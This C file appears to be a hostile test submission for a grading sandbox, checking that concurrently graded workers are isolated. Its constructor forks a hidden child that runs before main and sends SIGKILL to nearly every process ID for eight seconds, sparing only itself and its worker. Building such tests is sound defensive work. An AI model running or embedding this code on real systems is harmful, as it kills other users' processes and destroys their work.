/* Hostile (all workers shared one uid): a process left behind by the
   constructor kills every process it can name for 8 seconds, while
   classmates are graded at the same time (same group in EXPECT).  It
   spares its own worker, so its own score is the honest 120; so must the
   classmates' be. */
#include <signal.h>
#include <time.h>
#include <unistd.h>

__attribute__((constructor)) static void start_killer(void)
{
  pid_t worker = getpid();
  if (fork() != 0) return;
  for (int fd = 0; fd < 1024; fd++) close(fd);
  time_t until = time(NULL) + 8;
  while (time(NULL) < until) {
    for (pid_t p = 2; p < 100000; p++)
      if (p != getpid() && p != worker) kill(p, SIGKILL);
    usleep(20000);
  }
  _exit(0);
}
#include "../mutants/base.c"
